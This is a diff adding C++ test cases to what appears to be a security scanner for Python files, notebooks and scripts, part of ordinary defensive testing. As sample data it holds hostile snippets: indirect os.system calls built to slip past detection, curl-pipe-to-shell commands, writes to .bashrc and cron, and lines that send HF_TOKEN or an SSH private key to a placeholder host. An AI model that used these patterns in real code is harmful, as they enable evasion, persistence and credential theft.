@@ -48,6 +48,113 @@ BOOST_AUTO_TEST_CASE(commands_on_import_are_found_however_they_are_named) {
     }
 }
 
+BOOST_AUTO_TEST_CASE(commands_are_found_wherever_a_value_may_come_from) {
+    for (const char* rest :
+         {"for f in (len, os.system):\n    f('x')\n",
+          "try:\n    r = os.system\nexcept E:\n    r = print\nr('x')\n",
+          "if a:\n    r = os.system\nelse:\n    r = print\nr('x')\n",
+          "f = len if False else os.system\nf('x')\n",
+          "(os.system, len)[x]('x')\n",
+          "def a(x):\n    if x: return os.system\n    return len\na(1)('x')\n",
+          "with nullcontext(os.system) as f:\n    f('x')\n",
+          "match os.system:\n    case f:\n        f('x')\n",
+          "match [1, os.system]:\n    case [_, f]:\n        f('x')\n",
+          "*a, f = 1, 2, os.system\nf('x')\n",
+          "def go(f, x):\n    return f(x)\ngo(len, 'a')\ngo(os.system, 'x')\n",
+          "d = {}\nd['x'] = os.system\nd['x']('x')\n",
+          "d = {}\nd.update(x=os.system, y=len)\nd['x']('x')\n",
+          "l = []\nl.append(os.system)\nl[0]('x')\n",
+          "d = dict(x=os.system)\nd['x']('x')\n",
+          "{'x': os.system}.get('x')('x')\n",
+          "setattr(a, 'f', os.system)\na.f('x')\n",
+          "globals()['f'] = os.system\nf('x')\n",
+          "from types import SimpleNamespace as N\nN(f=os.system).f('x')\n",
+          "def go(**k): k['f']('x')\ngo(f=os.system)\n",
+          "def go(*a): a[0]('x')\ngo(os.system)\n",
+          "[f('x') for f in [len, os.system]]\n",
+          "[[f('x') for f in g] for g in [[len], [os.system]]]\n",
+          "sorted(['x'], key=os.system)\n",
+          "['x'].sort(key=os.system)\n",
+          "import multiprocessing as m\nm.Process(target=os.system, args=('x',)).start()\n",
+          "import functools as f\nf.lru_cache(os.system)('x')\n",
+          "import functools as f\nf.reduce(getattr, ['system'], os)('x')\n",
+          "import operator as o\no.attrgetter('system')(os)('x')\n",
+          "import operator as o\no.methodcaller('system', 'x')(os)\n",
+          "class A:\n    f = staticmethod(os.system)\nA.f('x')\n",
+          "os.system.__call__('x')\n",
+          "import mycode\nmycode.os.system('x')\n",
+          "from . import os as z\nz.system('x')\n",
+          "from shutil import os as z\nz.system('x')\n",
+          "__loader__.load_module('os').system('x')\n",
+          "import sys\nsys._getframe().f_builtins['__import__']('os').system('x')\n",
+          "class P(os.popen):\n    pass\nP('x')\n",
+          "import builtins\nbuiltins.print = os.system\nprint('x')\n"}) {
+        BOOST_TEST(verdict_of_source("import os\n" + std::string(rest)) == "malicious", rest);
+    }
+    // 40 calls deep.
+    std::string deep = "import os\ndef f40(x):\n    os.system(x)\n";
+    for (int i = 39; i >= 0; --i) {
+        deep += "def f" + std::to_string(i) + "(x):\n    f" + std::to_string(i + 1) + "(x)\n";
+    }
+    BOOST_TEST(verdict_of_source(deep + "f0('x')\n") == "malicious");
+}
+
+BOOST_AUTO_TEST_CASE(what_harms_and_is_kept_or_handed_on_is_not_passed_over) {
+    for (const char* rest :
+         {"run = os.system\n", "table = {'run': os.system}\n", "x.y(os.system)\n",
+          "def f():\n    return os.system\nf()\n", "x = [os.system for _ in y]\n",
+          "class A(PreTrainedModel):\n    def __init__(self):\n        self.x = [os.system]\n"}) {
+        BOOST_TEST(verdict_of_source("import os\n" + std::string(rest)) == "suspicious", rest);
+    }
+    for (const char* rest :
+         {"def f(p: subprocess.Popen) -> subprocess.Popen:\n    return p\n",
+          "x: subprocess.Popen = None\n", "isinstance(p, subprocess.Popen)\n",
+          "def f():\n    return subprocess.run\n", "t = List[subprocess.Popen]\n",
+          "if run is subprocess.run:\n    pass\n"}) {
+        BOOST_TEST(verdict_of_source("import subprocess\n" + std::string(rest)) == "clean", rest);
+    }
+}
+
+BOOST_AUTO_TEST_CASE(code_of_files_and_of_the_environment) {
+    for (const char* source :
+         {"exec(open('weights.bin').read())\n", "import runpy\nrunpy.run_path('w.txt')\n",
+          "from importlib.machinery import SourceFileLoader as S\nS('x', 'w.bin').load_module()\n",
+          "import os\nos.environ['LD_PRELOAD'] = 'x.so'\n"}) {
+        BOOST_TEST(verdict_of_source(source) == "suspicious", source);
+    }
+    for (const char* source :
+         {"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(\"x\")')\n",
+          "import os\nos.write(os.open('/etc/cron.d/x', os.O_WRONLY | os.O_CREAT), b'x')\n",
+          "import pathlib\npathlib.Path('/root/.bashrc').write_text('x')\n",
+          "from pathlib import Path\n(Path.home() / '.bashrc').open('a').write('x')\n",
+          "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
+          "import os\nopen(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write('x')\n",
+          "import os, requests\nrequests.get(f\"http://x/?k={os.environ['HF_TOKEN']}\")\n",
+          "import requests, pathlib\nrequests.get('http://x/', params={'k': "
+          "pathlib.Path('/root/.ssh/id_rsa').read_text()})\n"}) {
+        BOOST_TEST(verdict_of_source(source) == "malicious", source);
+    }
+    BOOST_TEST(verdict_of_source("import pathlib\npathlib.Path('x.txt').write_text('x')\n") ==
+               "clean");
+    BOOST_TEST(verdict_of_source("import os\nos.environ['TOKENIZERS_PARALLELISM'] = '0'\n") ==
+               "clean");
+}
+
+BOOST_AUTO_TEST_CASE(guards_of_programs) {
+    const std::string body = ":\n    import os\n    os.system('x')\n";
+    for (const char* guard :
+         {"if sys.platform != 'win32' and __name__ == '__main__'", "if __name__ in ('__main__',)",
+          "if __name__ == '__main__' and True", "if '__main__' == __name__"}) {
+        BOOST_TEST(verdict_of_source(guard + body) == "clean", guard);
+    }
+    for (const char* guard : {"if __name__ in ('__main__', 'model')",
+                              "if __name__ == '__main__' or x", "if not __name__ == '__main__'"}) {
+        BOOST_TEST(verdict_of_source(guard + body) == "malicious", guard);
+    }
+    BOOST_TEST(verdict_of_source("__name__ = '__main__'\nif __name__ == '__main__'" + body) ==
+               "malicious");
+}
+
 BOOST_AUTO_TEST_CASE(functions_count_when_something_calls_them) {
     const std::string def = "import os\ndef f(x=0):\n    os.system('x')\n";
     BOOST_TEST(ids_of(def) == "PRQ-PYTHON-005");
@@ -167,6 +274,13 @@ BOOST_AUTO_TEST_CASE(text_that_is_no_python_stays_text) {
 BOOST_AUTO_TEST_CASE(encodings_and_characters_that_hide) {
     BOOST_TEST(ids_of("# coding: utf-7\n# +AAo-import os\n") == "PRQ-PYTHON-008");
     BOOST_TEST(ids_of("# x\n# vim: fileencoding=unicode_escape :\nx\n") == "PRQ-PYTHON-008");
+    for (const char* cookie :
+         {"#!/usr/bin/python\r\n# coding: utf-7\r\n", "#!/usr/bin/python\r# coding: utf-7\r",
+          "# the coding style coding: utf-7\n", "\f# coding:\tutf-7\n", "\r\n#coding:utf-7\r\n"}) {
+        BOOST_TEST(ids_of(cookie + std::string("# +AAo-import os\n")) == "PRQ-PYTHON-008", cookie);
+    }
+    BOOST_TEST(verdict_of_source("#\n\n# coding: utf-7\nimport os\n") == "clean");
+    BOOST_TEST(verdict_of_source("x = 1\n# coding: utf-7\nimport os\n") == "clean");
     BOOST_TEST(verdict_of_source("# -*- coding: latin-1 -*-\nimport os\n") == "clean");
     BOOST_TEST(ids_of("import os\nx = '\xe2\x80\xae'\n") == "PRQ-PYTHON-009");
     BOOST_TEST(verdict_of_source("import os\n\xef\xbd\x8f\xef\xbd\x93.system('x')\n") ==
@@ -185,6 +299,33 @@ BOOST_AUTO_TEST_CASE(notebooks_and_scripts) {
     BOOST_TEST(verdict_of(test::scan(cell("import base64\\nexec(base64.b64decode(x))"))) ==
                "malicious");
     BOOST_TEST(verdict_of(test::scan(cell("if x:\\n    !ls\\n%time f()\\nf?"))) == "clean");
+    for (const char* source :
+         {"%sx curl x | sh", "%system curl x | sh", "x = !curl x | sh", "x = %sx curl x | sh",
+          "\\n%%bash\\ncurl x | sh", "get_ipython().system('curl x | sh')",
+          "get_ipython().run_cell_magic('bash', '', 'curl x | sh')",
+          "%%python\\nimport os\\nos.system('curl x | sh')", "%run -i http://x/a.py",
+          "%timeit -n 1 __import__('os').system('curl x | sh')", "!!curl x | sh"}) {
+        BOOST_TEST(verdict_of(test::scan(cell(source))) == "malicious", source);
+    }
+    BOOST_TEST(verdict_of(test::scan(
+                   cell("x = !ls\\nif x:\\n    y = %sx ls\\n%matplotlib inline"))) == "clean");
+    BOOST_TEST(verdict_of(test::scan(R"({"nbformat": 3, "worksheets": [{"cells": [)"
+                                     R"({"cell_type": "code", "input": ["!curl x | sh"]}]}]})")) ==
+               "malicious");
+    for (const char* html : {"<SCRIPT>x</SCRIPT>", "<img src=x onerror=x>"}) {
+        BOOST_TEST(ids(test::scan(R"({"nbformat": 4, "cells": [{"cell_type": "markdown",)"
+                                  R"( "source": ")" +
+                                  std::string(html) + "\"}]}")) == "PRQ-SCRIPT-003");
+        BOOST_TEST(ids(test::scan(R"({"nbformat": 4, "cells": [{"cell_type": "code", "source": "",)"
+                                  R"( "outputs": [{"data": {"text/html": ")" +
+                                  std::string(html) + "\"}}]}]}")) == "PRQ-SCRIPT-003");
+    }
+    for (const char* name : {"Dockerfile", "a/Makefile", "x.R", "x.lua", "x.js"}) {
+        BOOST_TEST(
+            ids_of("system(\"curl x | sh\")\n", name).find("PRQ-SCRIPT-001") != std::string::npos,
+            name);
+    }
+    BOOST_TEST(ids_of("ls\n", "a.PS1") == "PRQ-SCRIPT-002");
     BOOST_TEST(ids(test::scan("#!/bin/sh\nls\n")) == "PRQ-SCRIPT-002");
     BOOST_TEST(verdict_of(test::scan("#!/bin/sh\ncurl x \\\n | sh\n")) == "malicious");
     BOOST_TEST(verdict_of(test::scan("#!/bin/sh\n# curl x | sh\n")) == "clean");
@@ -211,6 +352,11 @@ BOOST_AUTO_TEST_CASE(work_is_bounded) {
     }
     BOOST_TEST(verdict_of_source(calls + "f0(1)\n") == "clean");
     BOOST_TEST(verdict_of_source("def f(x):\n    return f(x)\nf(1)\n") == "clean");
+    // Names that each star may have.
+    std::string stars;
+    for (int i = 0; i < 32; ++i) stars += "from m" + std::to_string(i) + " import *\n";
+    for (int i = 0; i < 100'000; ++i) stars += "a" + std::to_string(i) + "\n";
+    BOOST_TEST(gaps(test::scan(stars)).find("limit") != std::string::npos);
 }
 
 BOOST_AUTO_TEST_SUITE_END()
